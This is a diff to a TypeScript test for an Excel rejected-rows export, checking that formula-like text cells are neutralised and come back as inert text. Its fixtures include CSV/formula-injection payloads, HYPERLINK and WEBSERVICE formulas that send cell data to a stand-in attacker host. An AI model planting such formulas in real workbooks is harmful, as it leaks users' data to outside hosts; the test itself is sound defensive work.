@@ -1,7 +1,7 @@
 /**
  * The rejected-rows workbook the analyst opens in Excel (SPEC §10): text cells that Excel could run
- * as a formula are neutralised (header, raw cells, the problem sentence); numbers, dates and numbers
- * typed as text stay as they were; the file holds no formula at all.
+ * as a formula are neutralised (header, raw cells, the problem sentence, a formula saved without its
+ * value); numbers, dates and numbers typed as text stay as they were; the file holds no formula.
  */
 import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
@@ -26,6 +26,8 @@ const APPOINTMENTS: ExcelJS.CellValue[][] = [
   [1002, 51, 1, '2025-10-22', '=1+2'],
   [1003, '-54', 1, new Date(Date.UTC(2025, 9, 22)), 'confirmed'],
   [1004, 53, 1, '=HYPERLINK("http://evil.example/?"&A1,"x")', 'cancelled'],
+  // A formula saved without its value: rejected as formula_not_calculated.
+  [1005, 54, 1, { formula: 'WEBSERVICE("http://evil.example/")' } as ExcelJS.CellFormulaValue, 'confirmed'],
 ];
 
 let dir: string;
@@ -65,7 +67,7 @@ function cells(sheetName: string): ExcelJS.CellValue[][] {
 
 describe('the rejected-rows workbook', () => {
   it('holds every rejected row, under a header that stays in view', () => {
-    expect(rows).toBe(3 + 3);
+    expect(rows).toBe(3 + 4);
     for (const name of ['Doctors', 'Appointments']) expect(exported.getWorksheet(name)?.views).toEqual([expect.objectContaining({ state: 'frozen', ySplit: 1 })]);
   });
 
@@ -92,6 +94,9 @@ describe('the rejected-rows workbook', () => {
     expect(status?.[4]).toBe("'=1+2");
     const link = appointments.find((row) => row[0] === 1004);
     expect(link?.[3]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"x")');
+    // An uncalculated formula goes back as its text, never as a live formula.
+    const formula = appointments.find((row) => row[0] === 1005);
+    expect(formula?.[3]).toBe('\'=WEBSERVICE("http://evil.example/")');
   });
 
   it('keeps numbers, dates and numbers typed as text as they were', () => {
